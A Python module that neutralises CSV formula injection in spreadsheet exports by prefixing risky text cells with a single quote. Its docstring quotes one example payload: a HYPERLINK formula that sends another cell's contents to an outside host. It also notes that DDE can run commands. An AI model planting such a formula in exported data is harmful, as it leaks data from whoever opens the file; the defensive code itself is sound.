"""CSV files people download and open in a spreadsheet: user text must stay text.

A display name such as `=HYPERLINK("http://host/?"&A1,"open")` is a formula to Excel and
LibreOffice: opened from an export it can send the sheet's other cells to an outside host or
run commands through DDE. OWASP's CSV Injection guidance: a text cell that begins with `=`, `+`,
`-`, `@`, a tab or a carriage return gets a leading single quote, which spreadsheets read as
"this is text" (and show without it in Excel). Only text cells change: a negative number is a
number, not a formula, and stays one (the file's users sort and average those columns).

Every CSV export goes through `safe_csv`, so a new export cannot forget it.
"""

from __future__ import annotations

import csv
import json
from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ENCODING = "utf-8-sig"  # the byte-order mark makes Excel read Cyrillic and Kazakh letters right


def neutralise_cell(value: object) -> object:
    """A text cell a spreadsheet would run as a formula, marked as text; others as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy with every text cell (and column name) neutralised; number columns untouched."""
    safe = frame.copy()
    for column in safe.columns:
        values = safe[column]
        if pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values):
            safe[column] = values.map(neutralise_cell)
    safe.columns = [neutralise_cell(c) for c in safe.columns]
    return safe


def safe_csv(frame: pd.DataFrame, quote_text: bool = False) -> bytes:
    """The frame as a spreadsheet-safe CSV file (no index, UTF-8 with a byte-order mark);
    `quote_text` puts every non-number cell in quotes."""
    safe = neutralise_frame(frame)
    # CRLF rows (RFC 4180): the csv module then quotes a cell holding a lone carriage return,
    # which would otherwise start a new row in a spreadsheet.
    if quote_text:
        text = safe.to_csv(index=False, lineterminator="\r\n", quoting=csv.QUOTE_NONNUMERIC)
    else:
        text = safe.to_csv(index=False, lineterminator="\r\n")
    return text.encode(ENCODING)


def events_csv(events: pd.DataFrame) -> bytes:
    """A person's own events ("download my data"): the JSON payload as one text column, every
    text quoted so a reader sees which cells are text."""
    frame = events.copy()
    if "payload" in frame.columns:
        frame["payload"] = frame["payload"].map(_json)
    return safe_csv(frame, quote_text=True)


def _json(payload: Any) -> str:
    return json.dumps(payload, ensure_ascii=False)
